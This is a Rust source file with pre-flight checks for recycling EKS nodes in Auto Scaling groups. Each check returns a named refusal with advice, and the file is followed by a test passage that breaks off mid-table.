//! Pre-flight: may this node be recycled as asked? Nothing has been touched yet.
//!
//! All refusals at once: each has a name that does not change, and a sentence that says what was found and what a person may do.

use std::collections::BTreeMap;
use std::fmt;

use crate::autoscaler::{Remover, find_remover};
use crate::balancers::Balancer;
use crate::claim::Urgency;
use crate::cluster_tag::{cluster_tag, find_other_cluster, has_cluster_tag, tag_group, tag_instances};
use crate::ids::{ClusterName, InstanceId};
use crate::input::{Dispose, Force, Input, Replacement};
use crate::lost::describe_silence;
use crate::names::{PROTECTED_FOR_TAG, SCALE_DOWN_DISABLED_ANNOTATION, STANDBY_TAG};
use crate::node::{Group, Instance, NodeFacts};
use crate::shell::quote;

/// How often the state machine has tried `claim-node` again before a cluster that never answered counts as one that nobody can reach from
/// here. That takes some minutes, in which an API server that is only being upgraded comes back. After two tries more the state machine
/// would give up without the advice.
pub const TRIES_OF_AN_ENDPOINT: u32 = 8;

/// Instances in a command to paste: 20 characters each. The next refusal has the others.
const MOST_TAGGED: usize = 20;

/// What pre-flight found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Preflight {
    /// Go on.
    Go {
        /// Things that a person should know, one sentence each.
        notes: Vec<String>,
    },
    /// The instance is gone: nothing to do.
    AlreadyGone(String),
    /// Refused: every reason, from what nobody can change to what `force` overrides.
    Refused(Vec<Refusal>),
}

/// Why a node is not recycled.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// Which reason it is.
    pub obstacle: Obstacle,
    /// What was found and what a person may do, one sentence.
    pub text: String,
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.obstacle.name(), self.text)
    }
}

/// All of them in an error's text, one a line.
#[must_use]
pub fn list_refusals(refusals: &[Refusal]) -> String {
    let lines: Vec<String> = refusals.iter().map(Refusal::to_string).collect();
    lines.join("\n")
}

macro_rules! obstacles {
    ($($(#[$doc:meta])* $obstacle:ident = $name:literal,)+) => {
        /// A reason to refuse. Its name is API: people search for it.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
        pub enum Obstacle {
            $($(#[$doc])* $obstacle,)+
        }

        impl Obstacle {
            /// All of them, for tests and documentation.
            pub const ALL: &'static [Self] = &[$(Self::$obstacle),+];

            /// The name that does not change.
            #[must_use]
            pub fn name(self) -> &'static str {
                match self {
                    $(Self::$obstacle => $name,)+
                }
            }
        }
    };
}

obstacles!(
    /// The execution was redriven.
    Redriven = "redriven",
    /// EC2 does not know the instance.
    UnknownInstance = "unknown_instance",
    /// The annotation or tag of the claim is not a claim.
    UnreadableClaim = "unreadable_claim",
    /// No execution of this installation and version has written the claim.
    ForeignClaim = "foreign_claim",
    /// The cluster's endpoint never answered.
    UnreachableEndpoint = "unreachable_endpoint",
    /// We may not do in the cluster what has to be done.
    MissingPermission = "missing_permission",
    /// Karpenter replaces its nodes itself.
    Karpenter = "karpenter",
    /// EKS Auto Mode replaces its nodes itself.
    AutoMode = "auto_mode",
    /// A node of Fargate is a pod's.
    Fargate = "fargate",
    /// The instance is in no group.
    NoGroup = "no_group",
    /// It is not in its group any more.
    NotAMember = "not_a_member",
    /// It is in its group's warm pool.
    WarmPool = "warm_pool",
    /// It is in Standby, but not by us.
    ForeignStandby = "foreign_standby",
    /// Its group is terminating it.
    Terminating = "terminating",
    /// Its group is not terminating it, as a hook's execution has to find it.
    NotTerminating = "not_terminating",
    /// It is not in service for another reason.
    NotInService = "not_in_service",
    /// It is another cluster's.
    AnotherCluster = "another_cluster",
    /// The instance or its group lacks the cluster's tag, without which the functions may change nothing.
    MissingClusterTag = "missing_cluster_tag",
    /// It has no Node in the cluster.
    NoNode = "no_node",
    /// Cluster Autoscaler is about to remove the node.
    RemovedByAutoscaler = "removed_by_autoscaler",
    /// Karpenter is about to remove the node.
    DisruptedByKarpenter = "disrupted_by_karpenter",
    /// An instance refresh of the group runs.
    InstanceRefresh = "instance_refresh",
    /// EKS updates or deletes the managed node group.
    ManagedGroupUpdate = "managed_group_update",
    /// The group counts weights and not instances.
    WeightedGroup = "weighted_group",
    /// EC2 cannot stop a one-time Spot instance.
    OneTimeSpot = "one_time_spot",
    /// It is to be kept, and its Node is not Ready.
    NotReady = "not_ready",
    /// It is protected from scale-in.
    ScaleInProtection = "scale_in_protection",
    /// A process of the group is suspended.
    SuspendedProcess = "suspended_process",
    /// It is the last target of a load balancer.
    LastTarget = "last_target",
    /// The replacement went with its place. Never a reason to refuse: it is told while a drain is under way.
    ReplacementRemoved = "replacement_removed_by_autoscaler",
    /// The replacement has gone, and the group launches another. Told like the one before.
    ReplacementGone = "replacement_gone",
);

impl Obstacle {
    /// By which value of `force` it is overridden, if by any.
    #[must_use]
    pub fn forced_by(self) -> Option<Force> {
        match self {
            Self::ScaleInProtection => Some(Force::ScaleInProtection),
            Self::SuspendedProcess => Some(Force::SuspendedProcess),
            Self::LastTarget => Some(Force::LastTarget),
            Self::Redriven
            | Self::UnknownInstance
            | Self::UnreadableClaim
            | Self::ForeignClaim
            | Self::UnreachableEndpoint
            | Self::MissingPermission
            | Self::Karpenter
            | Self::AutoMode
            | Self::Fargate
            | Self::NoGroup
            | Self::NotAMember
            | Self::WarmPool
            | Self::ForeignStandby
            | Self::Terminating
            | Self::NotTerminating
            | Self::NotInService
            | Self::AnotherCluster
            | Self::MissingClusterTag
            | Self::NoNode
            | Self::RemovedByAutoscaler
            | Self::DisruptedByKarpenter
            | Self::InstanceRefresh
            | Self::ManagedGroupUpdate
            | Self::WeightedGroup
            | Self::OneTimeSpot
            | Self::NotReady
            | Self::ReplacementRemoved
            | Self::ReplacementGone => None,
        }
    }

    /// The refusal for this reason.
    #[must_use]
    pub fn because(self, text: impl Into<String>) -> Refusal {
        Refusal {
            obstacle: self,
            text: text.into(),
        }
    }
}

/// What is asked about a group beyond its size and its members.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct GroupState {
    /// Its desired capacity counts something else than instances.
    pub is_weighted: bool,
    /// The status of an instance refresh that is under way.
    pub refresh: Option<String>,
    /// The status of the EKS managed node group that it belongs to.
    pub node_group_status: Option<String>,
    /// The load balancers that EnterStandby would take the instance out of.
    pub balancers: Vec<Balancer>,
    /// Its other members in service that lack the cluster's tag.
    pub untagged: Vec<InstanceId>,
}

/// Everything that pre-flight reads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Surroundings<'a> {
    /// The input.
    pub input: &'a Input,
    /// The instance, if EC2 knows it.
    pub instance: Option<&'a Instance>,
    /// `LifecycleState`, if it belongs to a group: of one in a warm pool, too, which is not among the group's members.
    pub lifecycle_state: Option<&'a str>,
    /// Its group, if it is in one.
    pub group: Option<&'a Group>,
    /// The group's tags.
    pub group_tags: &'a BTreeMap<String, String>,
    /// Keys of the tags that the group sets on instances that it launches.
    pub group_propagates: &'a [String],
    /// The group keeps an instance whose termination hook was abandoned.
    pub group_retains: bool,
    /// What else the group is at.
    pub group_state: &'a GroupState,
    /// Its Node, if it has one.
    pub node: Option<&'a NodeFacts>,
    /// The cluster's endpoint, if it never answered.
    pub unreachable: Option<&'a str>,
    /// What we may not do in the cluster, `verb resource`, as SelfSubjectAccessReview said.
    pub missing_permissions: &'a [String],
    /// We, or a dead owner of the claim, have touched the node: what was already done is no reason to refuse.
    pub resuming: bool,
}

/// Decides whether to go on.
#[must_use]
pub fn check_preflight(surroundings: &Surroundings<'_>) -> Preflight {
    let id = &surroundings.input.instance_id;
    let Some(instance) = surroundings.instance else {
        return Preflight::Refused(vec![Obstacle::UnknownInstance.because(format!(
            "EC2 knows no instance {id} in this account and region; check the id, and that the cluster is here"
        ))]);
    };
    if let Some(gone) = describe_gone(instance).or_else(|| describe_going(surroundings, instance)) {
        return Preflight::AlreadyGone(gone);
    }
    let force = &surroundings.input.force;
    let is_forced = |refusal: &Refusal| {
        let forced_by = refusal.obstacle.forced_by();
        forced_by.is_some_and(|value| force.contains(&value))
    };
    let (overridden, refusals): (Vec<Refusal>, Vec<Refusal>) = find_refusals(surroundings, instance)
        .into_iter()
        .partition(is_forced);
    if refusals.is_empty() {
        Preflight::Go {
            notes: write_notes(surroundings, &overridden),
        }
    } else {
        Preflight::Refused(refusals)
    }
}

/// Every reason. Of what hangs together only the root is told: without a way into the cluster, or as another's business, nothing about the
/// Node or the group is news.
fn find_refusals(surroundings: &Surroundings<'_>, instance: &Instance) -> Vec<Refusal> {
    let input = surroundings.input;
    let id = &input.instance_id;
    let mut refusals = Vec::new();
    refusals.extend(check_cluster(surroundings));
    let is_seen = refusals.is_empty();
    let owner = surroundings.node.and_then(|node| advise_owner(id, node));
    let is_owned = owner.is_some();
    refusals.extend(owner);
    let lifecycle = match surroundings.group {
        Some(group) => check_lifecycle(surroundings, instance, group),
        None if is_owned => None,
        None => Some(Obstacle::NoGroup.because(format!(
            "{id} is in no Auto Scaling group, so that nothing would replace it; attach it to a group or drain it by hand"
        ))),
    };
    if surroundings.node.is_none() && is_seen && lifecycle.is_none() {
        refusals.push(describe_missing_node(input, instance));
    }
    refusals.extend(lifecycle);
    if refusals.is_empty() && !surroundings.resuming {
        refusals.extend(check_tags(surroundings, instance));
    }
    if surroundings.resuming || input.hook.is_some() || input.interrupted_at.is_some() {
        // What follows asks whether to begin. This node was begun, by us or by others: stopping here would leave
        // it half done.
        return refusals;
    }
    refusals.extend(surroundings.node.and_then(|node| check_taints(id, node)));
    if let Some(group) = surroundings.group {
        refusals.extend(check_updates(surroundings, group));
        refusals.extend(check_weights(input, surroundings.group_state, group));
        refusals.extend(check_stop(input, instance));
        refusals.extend(
            surroundings
                .node
                .and_then(|node| check_keeping(input, node, group)),
        );
        refusals.extend(check_protection(input, instance, group));
        refusals.extend(check_processes(input, group));
        refusals.extend(check_targets(input, &surroundings.group_state.balancers));
    }
    refusals
}

/// The way into the cluster. Before all that needs the Node: without it nobody can have read it.
fn check_cluster(surroundings: &Surroundings<'_>) -> Option<Refusal> {
    let cluster = &surroundings.input.cluster_name;
    if let Some(endpoint) = surroundings.unreachable {
        return Some(explain_endpoint(cluster, endpoint));
    }
    let missing = surroundings.missing_permissions;
    (!missing.is_empty()).then(|| {
        Obstacle::MissingPermission.because(format!(
            "recycle-eks may not {} in cluster {cluster}; apply the manifest of the module's output rbac_manifest, and check that the \
             access entry of this function's role names the group recycle-eks",
            missing.join(", "),
        ))
    })
}

fn explain_endpoint(cluster: &ClusterName, endpoint: &str) -> Refusal {
    Obstacle::UnreachableEndpoint.because(format!(
        "the endpoint {endpoint} of cluster {cluster} does not answer; if it is private, set the module's variable vpc and let the \
         functions' security group in at port 443; if it is public with a list of CIDR blocks, the functions' addresses have to be on it"
    ))
}

fn describe_gone(instance: &Instance) -> Option<String> {
    let id = &instance.id;
    if instance.is_gone() {
        return Some(format!("{id} is {} already", instance.state));
    }
    let stopped_at = instance.stopped_at()?;
    Some(format!("{id} was stopped by recycle-eks at {stopped_at} already"))
}

/// The hook that was to hold it holds it no more.
fn describe_going(surroundings: &Surroundings<'_>, instance: &Instance) -> Option<String> {
    let state = surroundings.lifecycle_state?;
    let is_going = surroundings.input.hook.is_some() && matches!(state, "Terminating:Proceed" | "Terminated");
    is_going.then(|| format!("{} is {state} already", instance.id))
}

/// Who else replaces this node, and what to do there.
fn advise_owner(id: &InstanceId, node: &NodeFacts) -> Option<Refusal> {
    let compute_type = node.labels.get("eks.amazonaws.com/compute-type");
    let pool = node.labels.get("karpenter.sh/nodepool");
    let named = pool
        .map(|pool| format!(" (node pool {pool})"))
        .unwrap_or_default();
    let advice = if pool.is_some() {
        "delete its NodeClaim, or set the pool's expireAfter and disruption budgets"
    } else {
        "delete its NodeClaim"
    };
    match compute_type.map(String::as_str) {
        Some("fargate") => Some(Obstacle::Fargate.because(format!(
            "{id} runs on Fargate, where every pod has a node of its own; restart the pod instead"
        ))),
        Some("auto") => Some(Obstacle::AutoMode.because(format!(
            "{id} belongs to EKS Auto Mode{named}, which replaces its nodes itself; {advice}"
        ))),
        Some(_) | None => pool.map(|_| {
            Obstacle::Karpenter.because(format!(
                "{id} belongs to Karpenter{named}, which replaces its nodes itself; {advice}"
            ))
        }),
    }
}

/// The member has to be in service, or where an earlier execution of ours left it.
fn check_lifecycle(surroundings: &Surroundings<'_>, instance: &Instance, group: &Group) -> Option<Refusal> {
    let id = &instance.id;
    let name = &group.name;
    let member = group.member(id).map(|member| member.lifecycle_state.as_str());
    let ours = instance.tags.contains_key(STANDBY_TAG);
    let is_urgent = surroundings.input.urgency > Urgency::Planned;
    match member.or(surroundings.lifecycle_state) {
        Some(state) if state.starts_with("Terminating") && is_urgent => None,
        Some(state) if surroundings.input.hook.is_some() => Some(Obstacle::NotTerminating.because(format!(
            "{id} is {state} in group {name}, which is not terminating it: only a member that waits for the lifecycle hook can be \
             drained for it; leave hook out"
        ))),
        Some("InService") if member.is_some() => None,
        Some("Standby" | "EnteringStandby") if ours => None,
        Some(state @ ("Standby" | "EnteringStandby")) => Some(Obstacle::ForeignStandby.because(format!(
            "{id} is {state} in group {name}, but not by recycle-eks (it has no tag {STANDBY_TAG}): somebody else works on \
             it; take it out of Standby first"
        ))),
        Some(state) if state.starts_with("Terminating") && surroundings.resuming => None,
        Some(state) if state.starts_with("Terminating") => Some(
            Obstacle::Terminating.because(format!("{id} is {state}: group {name} is terminating it already")),
        ),
        Some(state) if state.starts_with("Warmed") => Some(Obstacle::WarmPool.because(format!(
            "{id} is {state}: it waits in the warm pool of group {name} and runs no pods; terminate it, and the pool takes a new one"
        ))),
        Some(state) if member.is_some() => Some(Obstacle::NotInService.because(format!(
            "{id} is {state} in group {name}; only a member that is InService can be recycled"
        ))),
        Some(_) | None => Some(Obstacle::NotAMember.because(format!(
            "{id} is no longer a member of group {name}; nothing would replace it"
        ))),
    }
}

fn describe_missing_node(input: &Input, instance: &Instance) -> Refusal {
    let id = &instance.id;
    let cluster = input.cluster_name.as_str();
    match find_other_cluster(instance, cluster) {
        Some(other) => Obstacle::AnotherCluster.because(format!(
            "{id} belongs to cluster {other} by its tags and is no node of cluster {cluster}; start the execution of that \
             cluster's module"
        )),
        None => Obstacle::NoNode.because(format!(
            "{id} is no node of cluster {cluster}: no Node there has its providerID; if it never joined, terminate it in its group"
        )),
    }
}

/// The tags that the functions' policies demand of whatever they change. The group of an instance that our hook holds and no policy retains
/// is not changed. That of an instance that EC2 takes away is only asked to terminate it, which EC2 does anyway.
fn check_tags(surroundings: &Surroundings<'_>, instance: &Instance) -> Vec<Refusal> {
    let (input, id) = (surroundings.input, &instance.id);
    let cluster = &input.cluster_name;
    let is_tagged = has_cluster_tag(&instance.tags, cluster);
    if let Some(other) = find_other_cluster(instance, cluster.as_str()) {
        return vec![Obstacle::AnotherCluster.because(format!(
            "{id} belongs to cluster {other} by its tags, although it has a Node in cluster {cluster}; correct the tags, or start the \
             execution of that cluster's module"
        ))];
    }
    let mut refusals = Vec::new();
    let tag = cluster_tag(cluster.as_str());
    let lacks = |what: &str, command: &str| {
        Obstacle::MissingClusterTag.because(format!(
            "{what} lacks the tag {tag} with the value owned or shared, without which the functions may not change it; set it: {command}"
        ))
    };
    if !is_tagged {
        refusals.push(lacks(
            &format!("instance {id}"),
            &tag_instances(std::slice::from_ref(id), cluster.as_str()),
        ));
    }
    let leaves_by_itself = input.hook.is_some() || input.interrupted_at.is_some();
    if let Some(group) = surroundings.group
        && (!leaves_by_itself || surroundings.group_retains)
        && !has_cluster_tag(surroundings.group_tags, cluster)
    {
        let name = &group.name;
        refusals.push(lacks(&format!("group {name}"), &tag_group(name, cluster)));
    }
    let untagged = &surroundings.group_state.untagged;
    let protects_others = input.replacement == Replacement::Before;
    if protects_others && !leaves_by_itself && !untagged.is_empty() {
        let names: Vec<&str> = untagged.iter().map(InstanceId::as_str).collect();
        refusals.push(lacks(
            &format!(
                "member {} of the same group, which the way back from Standby has to protect,",
                name_some(&names)
            ),
            &tag_instances(&untagged[..untagged.len().min(MOST_TAGGED)], cluster.as_str()),
        ));
    }
    refusals
}

/// Somebody else is removing the node already.
fn check_taints(id: &InstanceId, node: &NodeFacts) -> Option<Refusal> {
    let name = &node.name;
    match find_remover(node)? {
        Remover::ClusterAutoscaler(key) => Some(Obstacle::RemovedByAutoscaler.because(format!(
            "Cluster Autoscaler is about to remove node {name} ({id}), which has the taint {key}; let it, or annotate the node \
             {SCALE_DOWN_DISABLED_ANNOTATION}=true and take the taint away"
        ))),
        Remover::Karpenter(key) => Some(Obstacle::DisruptedByKarpenter.because(format!(
            "Karpenter is about to remove node {name} ({id}), which has the taint {key}; let it"
        ))),
    }
}

fn check_updates(surroundings: &Surroundings<'_>, group: &Group) -> Vec<Refusal> {
    let GroupState {
        refresh,
        node_group_status,
        ..
    } = surroundings.group_state;
    let name = &group.name;
    let refresh = refresh.as_ref().map(|status| {
        Obstacle::InstanceRefresh.because(format!(
            "an instance refresh of group {name} is {status}: it replaces the nodes itself, and members in Standby end it, or are ended by \
             it with their pods (its preference StandbyInstances); wait for its end, or cancel it"
        ))
    });
    let update = node_group_status
        .as_ref()
        .filter(|status| is_busy(status))
        .map(|status| {
            let managed = surroundings.node.and_then(node_group).unwrap_or(name.as_str());
            Obstacle::ManagedGroupUpdate.because(format!(
                "the EKS managed node group {managed} is {status}: EKS replaces its nodes itself; wait until it is ACTIVE"
            ))
        });
    refresh.into_iter().chain(update).collect()
}

/// `NodegroupStatus` (EKS API reference): in these EKS takes nodes away.
#[must_use]
pub fn is_busy(node_group_status: &str) -> bool {
    matches!(node_group_status, "UPDATING" | "DELETING")
}

/// The EKS managed node group that a Node belongs to.
#[must_use]
pub fn node_group(node: &NodeFacts) -> Option<&str> {
    node.labels.get("eks.amazonaws.com/nodegroup").map(String::as_str)
}

/// In a weighted group one instance is worth several units of the desired capacity: who replaces whom, nobody can tell by counting.
fn check_weights(input: &Input, state: &GroupState, group: &Group) -> Option<Refusal> {
    match input.replacement {
        Replacement::Before if state.is_weighted => Some(Obstacle::WeightedGroup.because(format!(
            "the instances of group {} have weights, so that nobody can tell which launch replaces which; write replacement \"after\"",
            group.name
        ))),
        Replacement::Before | Replacement::After => None,
    }
}

fn check_protection(input: &Input, instance: &Instance, group: &Group) -> Option<Refusal> {
    let id = &input.instance_id;
    // The put-back of another node protects all others, for minutes, and says so by a tag.
    let is_protected = group
        .member(id)
        .is_some_and(|member| member.protected_from_scale_in)
        && !instance.tags.contains_key(PROTECTED_FOR_TAG);
    is_protected.then(|| {
        Obstacle::ScaleInProtection.because(format!(
            "{id} is protected from scale-in, so somebody wants it kept; remove the protection, or write force \
             [\"scale_in_protection\"]"
        ))
    })
}

fn check_processes(input: &Input, group: &Group) -> Option<Refusal> {
    let suspended: Vec<&str> = needed_processes(input)
        .iter()
        .copied()
        .filter(|process| group.suspended.iter().any(|suspended| suspended == process))
        .collect();
    (!suspended.is_empty()).then(|| {
        Obstacle::SuspendedProcess.because(format!(
            "group {} has {} suspended, without which no node can be replaced; resume it, or write force \
             [\"suspended_process\"]",
            group.name,
            suspended.join(" and ")
        ))
    })
}

/// The group's processes without which a recycling cannot end.
fn needed_processes(input: &Input) -> &'static [&'static str] {
    match input.dispose {
        Dispose::Terminate => &["Launch", "Terminate"],
        Dispose::Stop | Dispose::Detach => &["Launch"],
    }
}

/// EnterStandby takes the instance out of the group's balancers before the replacement exists. `after` keeps it there until it is drained.
fn check_targets(input: &Input, balancers: &[Balancer]) -> Option<Refusal> {
    let alone: Vec<&str> = balancers
        .iter()
        .filter(|balancer| balancer.others == 0)
        .map(|balancer| balancer.name.as_str())
        .collect();
    match input.replacement {
        Replacement::Before if !alone.is_empty() => Some(Obstacle::LastTarget.because(format!(
            "{} is the last healthy target of {}, which EnterStandby takes it out of before its replacement is there; add a member, write \
             replacement \"after\", or force [\"last_target\"]",
            input.instance_id,
            name_some(&alone)
        ))),
        Replacement::Before | Replacement::After => None,
    }
}

fn check_stop(input: &Input, instance: &Instance) -> Option<Refusal> {
    match input.dispose {
        Dispose::Stop if instance.is_spot => Some(Obstacle::OneTimeSpot.because(format!(
            "{} is a one-time Spot instance, which EC2 cannot stop; write dispose \"terminate\"",
            instance.id
        ))),
        Dispose::Stop | Dispose::Terminate | Dispose::Detach => None,
    }
}

/// Whoever wants to look at a sick machine must not lose it.
fn check_keeping(input: &Input, node: &NodeFacts, group: &Group) -> Option<Refusal> {
    match input.dispose {
        Dispose::Stop | Dispose::Detach if !node.ready => Some(Obstacle::NotReady.because(format!(
            "node {} is not Ready: after {} minutes it would count as lost, and its group would terminate it; to keep the machine, take \
             it out by hand (aws autoscaling detach-instances --auto-scaling-group-name {} --instance-ids {} \
             --no-should-decrement-desired-capacity)",
            node.name,
            input.node_lost_after_seconds / 60,
            quote(group.name.as_str()),
            input.instance_id
        ))),
        Dispose::Stop | Dispose::Detach | Dispose::Terminate => None,
    }
}

/// At most three names: a group may have dozens of target groups.
fn name_some(names: &[&str]) -> String {
    const MOST: usize = 3;
    let told: Vec<&str> = names.iter().take(MOST).copied().collect();
    match names.len().saturating_sub(MOST) {
        0 => told.join(", "),
        more => format!("{} and {more} more", told.join(", ")),
    }
}

fn write_notes(surroundings: &Surroundings<'_>, overridden: &[Refusal]) -> Vec<String> {
    let mut notes: Vec<String> = overridden
        .iter()
        .map(|refusal| format!("forced although {refusal}"))
        .collect();
    if let Some(group) = surroundings.group {
        note_limits(surroundings.input, group, &mut notes);
        note_balancers(
            surroundings.input,
            group,
            &surroundings.group_state.balancers,
            &mut notes,
        );
    }
    let is_before = surroundings.input.replacement == Replacement::Before;
    if let Some(name) = surroundings.node.and_then(node_group).filter(|_| is_before) {
        notes.push(format!(
            "it belongs to the EKS managed node group {name}: Standby in managed groups is untested on AWS"
        ));
    }
    let silence = surroundings
        .node
        .and_then(|node| describe_silence(node, surroundings.input.node_lost_after_seconds));
    notes.extend(silence.map(|silence| {
        format!("{silence} at the earliest, and its group then terminates it with the pods on it")
    }));
    notes.extend(
        surroundings
            .group
            .and_then(|group| note_propagation(surroundings, group)),
    );
    if surroundings.resuming {
        notes.push(
            "an earlier execution began with this node: this one goes on from where it came".to_owned(),
        );
    }
    notes
}

/// A replacement without the tag can be neither protected nor recycled in its turn.
fn note_propagation(surroundings: &Surroundings<'_>, group: &Group) -> Option<String> {
    let cluster = &surroundings.input.cluster_name;
    let tag = cluster_tag(cluster.as_str());
    let is_passed_on = surroundings.group_propagates.contains(&tag);
    (!surroundings.resuming && !is_passed_on).then(|| {
        format!(
            "group {} does not set the tag {tag} on the instances that it launches; unless its launch template does, set it: {}",
            group.name,
            tag_group(&group.name, cluster)
        )
    })
}

/// What the group's limits mean for the way back.
fn note_limits(input: &Input, group: &Group, notes: &mut Vec<String>) {
    let Group {
        name,
        min,
        desired,
        max,
        ..
    } = group;
    match input.replacement {
        Replacement::After => {}
        Replacement::Before if min == max => notes.push(format!(
            "group {name} is at min = desired = max = {max}: if the replacement fails there is no legal way back from Standby"
        )),
        Replacement::Before if desired >= max => notes.push(format!(
            "group {name} is at its maximum of {max}: if the replacement fails, the way back from Standby first has to take \
             the replacement away"
        )),
        Replacement::Before => {}
    }
}

/// What the group's own balancers see of it.
fn note_balancers(input: &Input, group: &Group, balancers: &[Balancer], notes: &mut Vec<String>) {
    if balancers.is_empty() {
        return;
    }
    let names: Vec<&str> = balancers.iter().map(|balancer| balancer.name.as_str()).collect();
    let names = name_some(&names);
    match input.replacement {
        Replacement::Before => notes.push(format!(
            "EnterStandby takes it out of {names} at once: pods on it that serve through them get no new connections while they are \
             waited for"
        )),
        Replacement::After if balancers.iter().any(|balancer| balancer.others == 0) => notes.push(format!(
            "it is the last healthy target of {names}: from its end until the new member of group {} is healthy there is none",
            group.name
        )),
        Replacement::After => {}
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::fixtures::{OTHER, group, id, input, instance, member, node, strings, taint};
    use crate::names::STOPPED_TAG;

    /// A pre-flight in which all is well; each test changes what it is about.
    struct World {
        input: Input,
        instance: Option<Instance>,
        group: Option<Group>,
        node: Option<NodeFacts>,
        state: GroupState,
        lifecycle_state: Option<&'static str>,
        group_tags: BTreeMap<String, String>,
        group_retains: bool,
        group_propagates: Vec<String>,
        unreachable: Option<&'static str>,
        missing_permissions: Vec<String>,
        resuming: bool,
    }

    fn world() -> World {
        World {
            input: input(json!({})),
            instance: Some(Instance {
                tags: strings([("kubernetes.io/cluster/prod", "owned")]),
                ..instance()
            }),
            group: Some(group()),
            node: Some(node("old")),
            state: GroupState::default(),
            lifecycle_state: None,
            group_tags: strings([("kubernetes.io/cluster/prod", "owned")]),
            group_retains: false,
            group_propagates: vec!["kubernetes.io/cluster/prod".to_owned()],
            unreachable: None,
            missing_permissions: Vec::new(),
            resuming: false,
        }
    }

    impl World {
        fn asked(more: Value) -> Self {
            Self {
                input: input(more),
                ..world()
            }
        }

        fn in_state(state: &str) -> Self {
            Self {
                instance: Some(Instance {
                    state: state.to_owned(),
                    ..instance()
                }),
                ..world()
            }
        }

        fn with_member(state: &str) -> Self {
            let members = vec![member(crate::fixtures::OLD, state), member(OTHER, "InService")];
            Self {
                group: Some(Group { members, ..group() }),
                ..world()
            }
        }

        fn with_labels<const N: usize>(labels: [(&str, &str); N]) -> Self {
            Self {
                node: Some(NodeFacts {
                    labels: strings(labels),
                    ..node("old")
                }),
                ..world()
            }
        }

        fn tagged<const N: usize>(self, tags: [(&str, &str); N]) -> Self {
            let instance = self.instance.map(|mut instance| {
                instance.tags.extend(strings(tags));
                instance
            });
            Self { instance, ..self }
        }

        fn of_no_cluster(self) -> Self {
            let instance = self.instance.map(|instance| Instance {
                tags: BTreeMap::new(),
                ..instance
            });
            Self { instance, ..self }
        }

        fn in_untagged_group(self) -> Self {
            Self {
                group_tags: BTreeMap::new(),
                ..self
            }
        }

        fn without_node(self) -> Self {
            Self { node: None, ..self }
        }

        fn resuming(self) -> Self {
            Self {
                resuming: true,
                ..self
            }
        }

        fn suspending(self, processes: &[&str]) -> Self {
            let suspended = processes.iter().map(|process| (*process).to_owned()).collect();
            Self {
                group: self.group.map(|group| Group { suspended, ..group }),
                ..self
            }
        }

        fn protected(self) -> Self {
            let protect = |mut group: Group| {
                group.members[0].protected_from_scale_in = true;
                group
            };
            Self {
                group: self.group.map(protect),
                ..self
            }
        }

        fn with_taint(key: &str) -> Self {
            Self {
                node: Some(NodeFacts {
                    taints: vec![taint(key, "NoSchedule")],
                    ..node("old")
                }),
                ..world()
            }
        }

        fn while_it(state: GroupState) -> Self {
            Self { state, ..world() }
        }

        fn behind(more: Value, others: usize) -> Self {
            let state = GroupState {
                balancers: vec![
                    Balancer {
                        name: "target group web".to_owned(),
                        others,
                    },
                    Balancer {
                        name: "target group api".to_owned(),
                        others: 2,
                    },
                ],
                ..GroupState::default()
            };
            Self {
                state,
                ..Self::asked(more)
            }
        }

        fn names(&self) -> Vec<&'static str> {
            match self.check() {
                Preflight::Refused(refusals) => {
                    refusals.iter().map(|refusal| refusal.obstacle.name()).collect()
                }
                Preflight::Go { .. } => Vec::new(),
                Preflight::AlreadyGone(text) => panic!("{text}"),
            }
        }

        fn on_spot(self) -> Self {
            Self {
                instance: self.instance.map(|instance| Instance {
                    is_spot: true,
                    ..instance
                }),
                ..self
            }
        }

        fn check(&self) -> Preflight {
            check_preflight(&Surroundings {
                input: &self.input,
                instance: self.instance.as_ref(),
                group: self.group.as_ref(),
                node: self.node.as_ref(),
                group_state: &self.state,
                lifecycle_state: self.lifecycle_state,
                group_tags: &self.group_tags,
                group_retains: self.group_retains,
                group_propagates: &self.group_propagates,
                unreachable: self.unreachable,
                missing_permissions: &self.missing_permissions,
                resuming: self.resuming,
            })
        }
    }

    #[test]
    fn what_cannot_be_recycled_is_refused_with_advice() {
        let cases = [
            (
                "an unknown instance",
                World {
                    instance: None,
                    group: None,
                    node: None,
                    ..world()
                },
                "EC2 knows no instance i-0aaaaaaaaaaaaaaaa in this account and region",
            ),
            (
                "Karpenter's",
                World {
                    group: None,
                    ..World::with_labels([("karpenter.sh/nodepool", "spot")])
                },
                "belongs to Karpenter (node pool spot)",
            ),
            (
                "Auto Mode's",
                World::with_labels([
                    ("karpenter.sh/nodepool", "system"),
                    ("eks.amazonaws.com/compute-type", "auto"),
                ]),
                "belongs to EKS Auto Mode (node pool system)",
            ),
            (
                "Auto Mode's without a pool",
                World::with_labels([("eks.amazonaws.com/compute-type", "auto")]),
                "belongs to EKS Auto Mode, which replaces its nodes itself",
            ),
            (
                "Fargate",
                World::with_labels([("eks.amazonaws.com/compute-type", "fargate")]),
                "restart the pod instead",
            ),
            (
                "in no group",
                World {
                    group: None,
                    ..world()
                },
                "is in no Auto Scaling group",
            ),
            (
                "no longer in its group",
                World {
                    group: Some(Group {
                        members: vec![member(OTHER, "InService")],
                        ..group()
                    }),
                    ..world()
                },
                "is no longer a member of group workers",
            ),
            (
                "somebody else's Standby",
                World::with_member("Standby"),
                "is Standby in group workers, but not by recycle-eks (it has no tag recycle-eks:standby)",
            ),
            (
                "entering it",
                World::with_member("EnteringStandby"),
                "is EnteringStandby in group workers, but not by",
            ),
            (
                "launching",
                World::with_member("Pending:Wait"),
                "only a member that is InService can be recycled",
            ),
            (
                "terminating",
                World::with_member("Terminating:Wait"),
                "group workers is terminating it already",
            ),
            (
                "no Node",
                world().without_node(),
                "is no node of cluster prod: no Node there has its providerID",
            ),
            (
                "no Node, by the cluster's tag this cluster",
                world()
                    .without_node()
                    .tagged([("kubernetes.io/cluster/prod", "owned")]),
                "is no node of cluster prod: no Node there has its providerID",
            ),
            (
                "another cluster's by tag",
                world()
                    .without_node()
                    .of_no_cluster()
                    .tagged([("kubernetes.io/cluster/test", "owned")]),
